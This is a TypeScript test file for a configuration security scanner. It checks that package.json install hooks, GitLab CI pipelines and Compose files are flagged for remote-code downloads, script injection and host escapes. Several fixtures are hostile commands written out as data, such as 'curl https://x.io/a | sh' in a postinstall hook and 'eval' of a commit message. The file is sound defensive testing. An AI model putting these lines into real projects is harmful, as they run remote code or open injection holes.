// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows
import { createRequire } from 'node:module';
import test from 'ava';
import { readJson } from '../../../src/gates/configuration/json.ts';
import {
  type LineNotation,
  readSettingLines,
} from '../../../src/gates/configuration/setting-lines.ts';
import { loadYaml } from '../../../src/gates/configuration/yaml.ts';
import { defaultRules } from '../../../src/rules/default.ts';
import { riskPatterns } from '../../../src/rules/risk.ts';
import { findingsOf } from '../../analysis/worker/gates-run.ts';
import { someOf } from '../../some-cases.ts';
import { newFile } from '../patterns/scan-text.ts';
import { HARMLESS } from './harmless.ts';
import { cpuOf, inChange, inHunk, inNewFile } from './run.ts';

const ids = (found: readonly { id: string }[]) => [...new Set(found.map(({ id }) => id))].sort();
const WORKFLOW = '.github/workflows/ci.yml';

test('install scripts are found however they are laid out or escaped', async (t) => {
  for (const text of [
    '{\n  "scripts": {\n    "postinstall": "curl https://x.io/a | sh"\n  }\n}\n',
    '{"name":"a","scripts":{"postinstall":"curl https://x.io/a -o b"}}\n',
    '{"scripts":{"\\u0070ostinstall":"curl https://x.io/a -o b"}}\n',
    '{"\\u0073cripts":{"post\\u0069nstall":"\\u0063url https://x.io/a -o b"}}\n',
    '{\n "scripts"\n :\n {\n "preinstall"\n :\n "wget https://x.io/a"\n }\n}\n',
    '{\r\n\t"scripts": {"install":\r\n\t"node -e \\"require(\'https\').get(\'https:\\/\\/x.io\')\\""}\r\n}\r\n',
    '\ufeff{"scripts": {"install": "powershell iwr x.io"}}\n',
    '{"scripts": {"postinstall": "echo"}, "scripts": {"postinstall": "curl x.io/a -o b"}}\n',
    '{"scripts": {"postinstall": "curl x.io/a -o b", "postinstall": "echo"}}\n',
    '{"scripts":{"a":"b","preinstall":"python3 -c \'import os\'"}}\n',
    '{"scripts":{"prepare":"curl https://x.io/a -o b && node b"}}\n',
    '{"scripts":{"pnpm:devPreinstall":"curl https://x.io/a -o b"}}\n',
    '{"scripts":{"install":"echo aGk= | base64 -d > a"}}\n',
  ]) {
    const found = await inNewFile('package.json', text);
    t.true(ids(found).includes('risk-install-download'), text);
    t.true(
      found.some(({ severity }) => severity === 'high'),
      text,
    );
  }
});

test('other settings of package.json are found in any layout', async (t) => {
  for (const [id, text] of [
    ['risk-install-script', '{"scripts":{"postinstall":"node a.js"}}\n'],
    ['risk-install-script', '{"scripts":{"pre\\u0069nstall":"./a"}}\n'],
    ['risk-install-script', '{"gypfile":true}\n'],
    ['risk-npm-foreign-source', '{"dependencies":{"a":"git+https://x.io/a.git"}}\n'],
    ['risk-npm-foreign-source', '{"dependencies":{"a":"x/y"}}\n'],
    ['risk-npm-foreign-source', '{"overrides":{"b":{"a":"https://x.io/a.tgz"}}}\n'],
    ['risk-npm-foreign-source', '{"resolutions":{"a":"git\\u002bssh://x.io/a"}}\n'],
    ['risk-npm-foreign-source', '{"pnpm":{"overrides":{"a":"github:x/a"}}}\n'],
    ['risk-package-bin', '{"bin":{"git":"./a"}}\n'],
    ['risk-npm-override', '{"overrides":{"a":"1.0.0"}}\n'],
    ['risk-npm-override', '{"resolutions":{"a/**/b":"1.0.0"}}\n'],
    ['risk-npm-override', '{"pnpm":{"overrides":{"a":"1.0.0"}}}\n'],
    ['risk-build-script-listed', '{"pnpm":{"onlyBuiltDependencies":["a"]}}\n'],
    ['risk-build-scripts-allowed', '{"pnpm":{"dangerouslyAllowAllBuilds":true}}\n'],
  ] as const) {
    t.true(ids(await inNewFile('package.json', text)).includes(id), text);
  }
});

test('of a changed package only what is new is reported, also in a hunk', async (t) => {
  const old =
    '{\n  "scripts": {\n    "a": "b",\n    "postinstall": "curl x.io/a -o b",\n    "c": "d"\n  }\n}\n';
  t.deepEqual(await inChange('package.json', old, old.replace('"b"', '"e"')), []);
  const next = old.replace('"a": "b"', '"preinstall": "wget x.io/b"');
  t.deepEqual(ids(await inChange('package.json', old, next)), [
    'risk-install-download',
    'risk-install-script',
  ]);
  for (const context of [0, 1, 3]) {
    const found = await inHunk('package.json', old, next, context);
    t.deepEqual(ids(found), ['risk-install-download', 'risk-install-script'], `${context}`);
  }
});

test('texts that others choose are found where a pipeline of GitLab makes code of them', async (t) => {
  for (const line of [
    'eval "echo $CI_COMMIT_MESSAGE"',
    'eval echo ${CI_COMMIT_TITLE}',
    'bash -c "notify $CI_MERGE_REQUEST_TITLE"',
    'sh -ec "notify ${CI_MERGE_REQUEST_DESCRIPTION}"',
    'ssh deploy@host "echo $CI_COMMIT_MESSAGE"',
    'echo "$CI_COMMIT_MESSAGE" | sh',
    `python3 -c "print('$CI_COMMIT_MESSAGE')"`,
    'M=$CI_COMMIT_MESSAGE; eval "$M"',
    'sh <<< "$CI_COMMIT_TITLE"',
    'python3 -c "print(\\"$CI_COMMIT_MESSAGE\\")"',
    'node -e "log(`$CI_COMMIT_MESSAGE`)"',
    'eval "$TITLE"',
    'powershell Invoke-Expression "$env:CI_COMMIT_MESSAGE"',
    'docker exec x sh -c "echo $CI_COMMIT_DESCRIPTION"',
  ]) {
    const variables = 'variables: { TITLE: "$CI_MERGE_REQUEST_TITLE" }\n';
    for (const text of [
      `${variables}a:\n  script:\n    - ${JSON.stringify(line)}\n`,
      `${variables}a: {script: [${JSON.stringify(line)}]}\n`,
      `${variables}.b: &b\n  before_script: |\n    set -e\n    ${line}\na:\n  <<: *b\n`,
    ]) {
      const found = await inNewFile('.gitlab-ci.yml', text);
      t.true(
        found.some(
          ({ id, severity }) => id === 'risk-gitlab-script-injection' && severity === 'high',
        ),
        text,
      );
    }
  }
  for (const line of [
    'echo "$CI_COMMIT_MESSAGE"',
    'sh -c \'echo "$CI_COMMIT_MESSAGE"\'',
    'eval "$(ssh-agent -s)"',
  ]) {
    const found = await inNewFile(
      '.gitlab-ci.yml',
      `a:\n  script:\n    - ${JSON.stringify(line)}\n`,
    );
    t.deepEqual(ids(found), [], line);
  }
  const branch = await inNewFile(
    '.gitlab-ci.yml',
    'a:\n  script: eval "git log $CI_COMMIT_REF_NAME"\n',
  );
  t.deepEqual(
    branch.map(({ id, severity }) => `${severity} ${id}`),
    ['high risk-gitlab-script-injection'],
  );
  for (const text of [
    'include: "https://x.io/a.yml"\n',
    'include: [{remote: "https://x.io/a.yml"}]\n',
    'include:\n- local: a.yml\n- "remote": https://x.io/a.yml\n',
  ]) {
    t.deepEqual(ids(await inNewFile('.gitlab-ci.yml', text)), ['risk-ci-remote-include'], text);
  }
});

test('services of Compose that reach their host are found in any notation', async (t) => {
  for (const [id, service] of [
    ['risk-privileged-container', '{privileged: true}'],
    ['risk-privileged-container', '{"privileged": True}'],
    ['risk-docker-socket', '{volumes: ["/var/run/docker.sock:/var/run/docker.sock"]}'],
    ['risk-docker-socket', '{volumes: [{type: bind, source: /run/docker.sock, target: /s}]}'],
    ['risk-host-namespace', '{network_mode: "host"}'],
    ['risk-host-namespace', '{pid: host}'],
    ['risk-host-namespace', '{ipc: !!str host}'],
    ['risk-container-capability', '{cap_add: [SYS_ADMIN]}'],
    ['risk-container-capability', '{cap_add: ["ALL"]}'],
    ['risk-container-unconfined', '{security_opt: ["seccomp:unconfined"]}'],
  ] as const) {
    for (const path of ['compose.yaml', 'docker-compose.prod.yml']) {
      const found = await inNewFile(path, `services: {a: ${service}}\n`);
      t.true(ids(found).includes(id), `${path} ${service}`);
    }
    const merged = `x: &x ${service}\nservices:\n  a:\n    <<: *x\n`;
    t.true(ids(await inNewFile('compose.yaml', merged)).includes(id), merged);
  }
});

/** Documents that no reader is expected to take. */
const BROKEN: readonly (readonly [path: string, text: string])[] = [
  [WORKFLOW, 'on: push\n\tjobs: {}\n'],
  [WORKFLOW, 'on: [push\njobs:\n  a: b\n'],
  [WORKFLOW, 'a: "b\n'],
  [WORKFLOW, 'a: b: c\n'],
  [WORKFLOW, `a: ${'['.repeat(100_000)}\n`],
  [WORKFLOW, `a: ${'{a: '.repeat(50_000)}\n`],
  [WORKFLOW, `${'- '.repeat(100_000)}x\n`],
  [WORKFLOW, `${Array.from({ length: 150 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')}\n`],
  [WORKFLOW, `a: ${'x'.repeat(300_000)}\n`],
  [
    '.gitlab-ci.yml',
    `a: &a [x,x,x,x,x,x,x,x,x]\n${['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
      .map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`)}]`)
      .join('\n')}\n`,
  ],
  ['compose.yaml', 'services: {a: {image: "b}}\n'],
  ['package.json', '{"scripts": {"postinstall": "x"\n'],
  ['package.json', `${'['.repeat(100_000)}\n`],
  ['package.json', '{scripts: {}}\n'],
];

test('a document that cannot be parsed is a finding that blocks and is never suppressed', async (t) => {
  for (const [path, text] of BROKEN) {
    for (const found of [await inNewFile(path, text), await inChange(path, 'a: b\n', text)]) {
      const [unread] = found.filter(({ id }) => id === 'config-unread');
      t.like(unread, { severity: 'high', file: path, suppressed: null }, text.slice(0, 80));
    }
  }
});

test('a workflow that is not at hand whole blocks, a hunk alone does not', async (t) => {
  const diff = `diff --git a/${WORKFLOW} b/${WORKFLOW}\n--- a/${WORKFLOW}\n+++ b/${WORKFLOW}\n@@ -5 +5 @@\n-      - run: a\n+      - run: b\n`;
  const files = [{ side: 'head', path: WORKFLOW, state: 'too-large', bytes: null } as const];
  const found = await findingsOf(diff, { patterns: riskPatterns, files });
  t.true(ids(found).includes('config-unread'));
  t.deepEqual(await findingsOf(diff, { patterns: riskPatterns }), []);
});

test('hostile texts are read in bounded time', async (t) => {
  const read = await loadYaml();
  const times = (count: number, text: (at: number) => string) =>
    Array.from({ length: count }, (_, at) => text(at)).join('');
  const cases = [
    ['nested lists', '['.repeat(25_000)],
    ['nested maps', '{a: '.repeat(15_000)],
    ['compact lists', '- '.repeat(30_000)],
    ['compact keys', '? '.repeat(30_000)],
    ['anchors, 10 MB', times(700_000, (at) => `- &a${at} b\n`)],
    ['anchors', times(5_000, (at) => `- &a${at} b\n`)],
    ['aliases', `- &a [b]\n${times(10_000, () => '- *a\n')}`],
    ['equal keys', times(12_500, () => 'a: 1\n')],
    ['other keys', times(6_250, (at) => `k${at}: 1\n`)],
    ['documents', times(10_000, () => '---\na\n')],
    ['quotes', '"'.repeat(60_000)],
    ['tags', `a: ${'!a '.repeat(20_000)}`],
    ['tabs', times(10_000, () => '\ta: b\n')],
    ['lists left open', times(400, () => 'a: [b\n')],
    ['an alias within its anchor', 'a: &a [*a, *a]\n'],
    ['a merge key of itself', 'a: &a {<<: *a, b: c}\n'],
  ] as const;
  for (const [name, text] of someOf(cases)) {
    const ms = cpuOf(() => read(text));
    t.true(ms < 2_000, `${name}: ${Math.round(ms)} ms`);
    t.log(`${name} ${Math.round(ms)} ms`);
  }
  const texts = [
    '/*'.repeat(100_000),
    '"a":'.repeat(50_000),
    '[{"a":'.repeat(30_000),
    '{'.repeat(200_000),
    ','.repeat(200_000),
    '"\\'.repeat(100_000),
  ];
  for (const text of someOf(texts)) {
    for (const isPart of [false, true]) {
      const ms = cpuOf(() => readJson(text, isPart));
      t.true(ms < 4_000, `${text.slice(0, 8)} ${Math.round(ms)} ms`);
    }
  }
});

test('a workflow is parsed once, for its own checks and for rules on documents', async (t) => {
  const text = 'on: push\njobs:\n  once:\n    steps:\n      - run: echo once\n';
  const yaml: typeof import('yaml') = createRequire(import.meta.url)('yaml');
  const { parseAllDocuments } = yaml;
  let count = 0;
  const counting: typeof parseAllDocuments = (source, options) => {
    if (source === text) count += 1;
    return parseAllDocuments(source, options);
  };
  Object.assign(yaml, { parseAllDocuments: counting });
  t.teardown(() => Object.assign(yaml, { parseAllDocuments }));
  await findingsOf(newFile(text, WORKFLOW), { rules: defaultRules });
  t.is(count, 1);
});

test('tokens that YAML cannot place cost no more than a list', async (t) => {
  const read = await loadYaml();
  const { stackTraceLimit } = Error;
  const ms = cpuOf(() => t.is(read(`[${','.repeat(50_000)}]`).roots.length, 1));
  const listMs = cpuOf(() => read(`[${'[a],'.repeat(12_500)}]`));
  t.true(ms < 1.5 * listMs, `${Math.round(ms)} ms, a list ${Math.round(listMs)} ms`);
  t.is(Error.stackTraceLimit, stackTraceLimit);
});

const NOTATIONS: readonly LineNotation[] = [
  ...(['sshd', 'systemd', 'npm', 'pip', 'php', 'mysql'] as const),
  ...(['postgresql', 'redis', 'haproxy', 'toml', 'properties'] as const),
];

test('a long line of settings costs no more than many short ones', (t) => {
  const blanks = ' '.repeat(100_000);
  const lines = [
    `[${blanks}x`,
    `[${'a'.repeat(100_000)}`,
    `[a${blanks}x`,
    `a${blanks}x`,
    `a=x${blanks}x`,
    `a="${'\\a'.repeat(50_000)}`,
    `a=[${'"'.repeat(100_000)}`,
  ];
  for (const notation of NOTATIONS) {
    for (const line of lines) {
      const ms = cpuOf(() => readSettingLines(`${line}\n`, notation));
      t.true(ms < 1_000, `${notation} ${line.slice(0, 4)} ${Math.round(ms)} ms`);
    }
  }
});

test('odd but valid YAML is read as what it says', async (t) => {
  const read = await loadYaml();
  for (const [text, root] of [
    ['\ufeffa: b\n', { a: 'b' }],
    ['a: b\r\nc: d\r\n', { a: 'b', c: 'd' }],
    ['%YAML 1.1\n---\non: yes\n', { on: 'yes' }],
    ['on: push\n', { on: 'push' }],
    ['a: !!python/object:os.system x\n', { a: 'x' }],
    ['a: !reference [b, c]\n', { a: ['b', 'c'] }],
    ['a: &x {b: c}\nd:\n  <<: *x\n', { a: { b: 'c' }, d: { b: 'c' } }],
    ['a: 1\na: 2\n', { a: '2' }],
    ['{"\\u0061": "\\x62"}\n', { a: 'b' }],
    ['a: >-\n  b\n  c\n', { a: 'b c' }],
    ['a:\n', { a: '' }],
  ] as const) {
    const { roots, problem } = read(text);
    t.is(problem, null, text);
    t.deepEqual(plain(roots[0]), root, text);
  }
  t.is(read('---\na: b\n---\nc: d\n').roots.length, 2);
  // What is merged into a map adds no level to it, however often.
  const merges = Array.from({ length: 200 }, (_, at) => {
    return `k${at}: &k${at}\n${at === 0 ? '' : `  <<: *k${at - 1}\n`}  v${at}: a\n`;
  });
  const merged = read(merges.join(''));
  t.is(merged.problem, null);
  t.is(merged.roots[0]?.kind === 'map' ? merged.roots[0].entries.length : 0, 200);
  t.deepEqual(read('').roots, []);
});

type Read = ReturnType<Awaited<ReturnType<typeof loadYaml>>>['roots'][number];

function plain(node: Read | undefined): unknown {
  if (node === undefined || node.kind === 'scalar') return node?.value;
  if (node.kind === 'list') return node.items.map(plain);
  return Object.fromEntries(node.entries.map(({ key, value }) => [key, plain(value)]));
}

test('a secret on the line of a finding is hidden', async (t) => {
  const token = 'tok_12345678';
  const pattern = {
    id: 'secret-token',
    description: '',
    severity: 'medium',
    regex: '(tok_[0-9]{8})',
    keywords: ['tok_'],
    message: '',
    source: '',
    examples: { match: [], noMatch: [] },
  } as const;
  const text = `on: issues\njobs: {a: {steps: [{run: "A=${token}; echo \${{ github.event.issue.title }}"}]}}\n`;
  const found = await findingsOf(newFile(text, WORKFLOW), { patterns: [...riskPatterns, pattern] });
  t.true(ids(found).includes('risk-workflow-script-injection'));
  t.false(JSON.stringify(found).includes(token));
});

test('a rule that is not in force is silent', async (t) => {
  const text = 'on: issues\njobs: {a: {steps: [{run: "echo ${{ github.event.issue.title }}"}]}}\n';
  const patterns = riskPatterns.filter(({ id }) => id !== 'risk-workflow-script-injection');
  t.deepEqual(ids(await findingsOf(newFile(text, WORKFLOW), { patterns })), []);
});

test('everyday files of configuration have nothing above low', async (t) => {
  t.true(HARMLESS.length >= 40);
  for (const [path, text] of HARMLESS) {
    const lines = text.split('\n');
    const before = [...lines.slice(0, 1), ...lines.slice(2)].join('\n');
    for (const found of [
      await inNewFile(path, text),
      await inChange(path, before, text),
      await inHunk(path, before, text, 1),
    ]) {
      const grave = found.filter(({ severity }) => !/^(?:low|info)$/.test(severity));
      t.deepEqual(
        grave.map(({ id, line }) => `${id} ${line}`),
        [],
        `${path}\n${text}`,
      );
    }
  }
});
